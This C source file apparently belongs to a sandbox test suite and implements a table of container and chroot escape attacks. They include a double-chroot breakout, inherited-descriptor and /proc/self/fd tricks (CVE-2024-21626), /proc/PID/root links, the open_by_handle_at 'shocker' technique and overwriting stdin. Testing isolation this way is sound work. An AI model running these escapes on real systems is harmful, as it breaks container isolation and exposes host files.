/* Ways out of the root directory, and to the host's files. */
#include "attack.h"

#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/*
 * 1: chroot(2) does not change the working directory. The root moves below it, so ".." no longer
 * meets the root and stops. Each ".." leads on, up to the root of the host.
 */
int second_chroot(void)
{
    if (mkdir("below", 0755) < 0 || chroot("below") < 0)
        return -1;
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0)
            return -1;
    if (chroot(".") < 0)
        return -1;
    return open_secret(AT_FDCWD);
}

/* 2: a directory that was opened before stays open, whatever the root is: openat(2), fchdir(2). */
static int inherited_descriptor(void)
{
    for (int fd = STDERR_FILENO + 1; fd < 100; fd++)
        if (open_secret(fd) == 0)
            return 0;
    return -1;
}

/* 3: this file is the host's. It runs only if /proc/self/fd/N/... has led to it. */
static int command_by_descriptor(void)
{
    return 0;
}

/* 3: a working directory /proc/self/fd/N that is not below the root (CVE-2024-21626). */
static int workdir_by_descriptor(void)
{
    return open_secret(AT_FDCWD);
}

/* 4: a file that is written here is in the image, for every container after this one. */
static int image(void)
{
    return opened(open("written", O_WRONLY | O_CREAT, 0644));
}

/* 5: these links of proc(5) lead to the root and the working directory of another process. */
static int proc_root(void)
{
    if (need_proc() < 0)
        return -1;
    return opened(open(format("/proc/%d/root%s", host.victim, host.secret), O_RDONLY));
}

static int proc_cwd(void)
{
    if (need_proc() < 0)
        return -1;
    return opened(open(format("/proc/%d/cwd%s", host.victim, host.secret), O_RDONLY));
}

/*
 * 11: a handle names a file by its inode. It needs any open file of the same file system, and no
 * root stops it. Inode 2 is the top directory of an ext4 ("shocker", 2014).
 */
static int file_handle(void)
{
    char memory[sizeof(struct file_handle) + 2 * sizeof(int)];
    struct file_handle *handle = (struct file_handle *)memory;
    int inode_and_generation[2] = {2, 0};
    int mount = open(*host.argument ? host.argument : ".", O_RDONLY);

    handle->handle_bytes = sizeof(inode_and_generation);
    handle->handle_type = 1;
    memcpy(handle->f_handle, inode_and_generation, sizeof(inode_and_generation));
    int top = open_by_handle_at(mount, handle, O_RDONLY | O_DIRECTORY);
    return top < 0 ? -1 : open_secret(top);
}

/* 33: fchmod(2) asks who owns the file behind a descriptor, not where it is. */
static int stdout_mode(void)
{
    return fchmod(STDOUT_FILENO, 0666);
}

/* 33: /proc/self/fd/N opens the file anew, and for more than the descriptor allows. */
static int stdin_reopened(void)
{
    if (need_proc() < 0)
        return -1;
    return overwrite("/proc/self/fd/0", "attacked\n");
}

const struct attack escape_attacks[] = {
    {"second_chroot", second_chroot},
    {"inherited_descriptor", inherited_descriptor},
    {"command_by_descriptor", command_by_descriptor},
    {"workdir_by_descriptor", workdir_by_descriptor},
    {"image", image},
    {"proc_root", proc_root},
    {"proc_cwd", proc_cwd},
    {"file_handle", file_handle},
    {"volume_handle", file_handle},
    {"stdout_mode", stdout_mode},
    {"stdin_reopened", stdin_reopened},
    {0},
};
